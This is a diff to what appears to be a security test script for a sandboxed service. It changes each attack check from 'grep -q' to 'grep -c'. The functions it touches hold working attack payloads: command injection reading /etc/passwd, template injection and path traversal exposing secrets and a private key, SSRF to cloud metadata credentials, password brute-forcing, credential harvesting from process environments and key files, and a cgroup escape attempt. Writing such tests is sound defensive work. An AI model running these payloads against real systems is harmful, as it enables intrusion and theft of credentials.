@@ -163,7 +163,7 @@ administer() {
 rare_profile() {
 	container_signal go USR2
 	sleep 2
-	find "$(volume_path go /var/lib/depot)" -name 'profile-*' -size +0 -print -delete | grep -q .
+	find "$(volume_path go /var/lib/depot)" -name 'profile-*' -size +0 -print -delete | grep -c .
 }
 
 # The debug port is configured, a profile is taken, and the port is closed.
@@ -241,17 +241,17 @@ run_template() {
 attack_command_injection() {
 	harm exec '/usr/bin/id'
 	harm read '/etc/passwd'
-	shell_command 'id; cat /etc/passwd' | grep -q '^uid=65532'
+	shell_command 'id; cat /etc/passwd' | grep -c '^uid=65532'
 }
 
 attack_template_injection() {
 	harm exec '/usr/bin/env'
-	run_template '{{.Tool "thing1" "/usr/bin/env"}}' | grep -q token-of-the-depot
+	run_template '{{.Tool "thing1" "/usr/bin/env"}}' | grep -c token-of-the-depot
 }
 
 attack_template_secret() {
 	harm read '/proc/*/environ'
-	run_template '{{.File "../../../../proc/self/environ"}}' | grep -aq token-of-the-depot
+	run_template '{{.File "../../../../proc/self/environ"}}' | grep -ac token-of-the-depot
 }
 
 # An archive whose file lands among the hooks, and starts with the next thing.
@@ -306,13 +306,13 @@ attack_miner() {
 
 attack_traversal() {
 	harm read '/etc/depot/deploy.key'
-	fetch /static/../../../../etc/depot/deploy.key --path-as-is | grep -q 'PRIVATE KEY'
+	fetch /static/../../../../etc/depot/deploy.key --path-as-is | grep -c 'PRIVATE KEY'
 }
 
 attack_metadata() {
 	harm connect '169.254.169.254:80'
 	fetch /preview -X POST --data-binary \
-		'{"URL": "http://169.254.169.254/latest/meta-data/iam/security-credentials/depot"}' | grep -q metadata-secret-key
+		'{"URL": "http://169.254.169.254/latest/meta-data/iam/security-credentials/depot"}' | grep -c metadata-secret-key
 }
 
 # The service asks the ports of its neighbour one after another, and its errors say which are open.
@@ -329,7 +329,7 @@ attack_brute_force() {
 	local word
 	harm read '/etc/depot/users'
 	for word in {sunshine,password,monkey,dragon}{1..9}; do
-		log_in admin "$word" | grep -q token && return 0
+		log_in admin "$word" | grep -c token && return 0
 	done
 	return 1
 }
@@ -339,7 +339,7 @@ attack_credentials() {
 	harm read '/proc/*/environ'
 	harm exec '/usr/bin/find'
 	shell_command 'cat /proc/[0-9]*/environ /etc/depot/*.key /etc/depot/tls/*; find / -xdev -name "*.pem" -o -name ".aws"' |
-		grep -aq 'PRIVATE KEY'
+		grep -ac 'PRIVATE KEY'
 }
 
 # A cgroup file system of its own, in which it could write limits and devices.
@@ -348,7 +348,7 @@ attack_escape_cgroup() {
 	harm call unshare
 	harm call mount
 	shell_command 'unshare -UrmC sh -c "mkdir /tmp/m; mount -t cgroup2 none /tmp/m && cat /tmp/m/cgroup.procs && echo mounted" 2>&1' |
-		grep -q mounted
+		grep -c mounted
 }
 
 # By code in the process: a connection to the thief, and a secret sent there.
@@ -388,7 +388,7 @@ adaptive_tampering() {
 	for i in {1..12}; do
 		echo 'yours no more' | put "/a/thing$i"
 	done
-	fetch /a/thing1 | grep -q 'yours no more'
+	fetch /a/thing1 | grep -c 'yours no more'
 }
 
 # Through the peer that it always tells.
@@ -407,5 +407,5 @@ adaptive_defacement() {
 	for i in {1..20}; do
 		echo 'yours no more' | bundle "page$i.txt"
 	done
-	fetch /static/page7.txt | grep -q 'yours no more'
+	fetch /static/page7.txt | grep -c 'yours no more'
 }
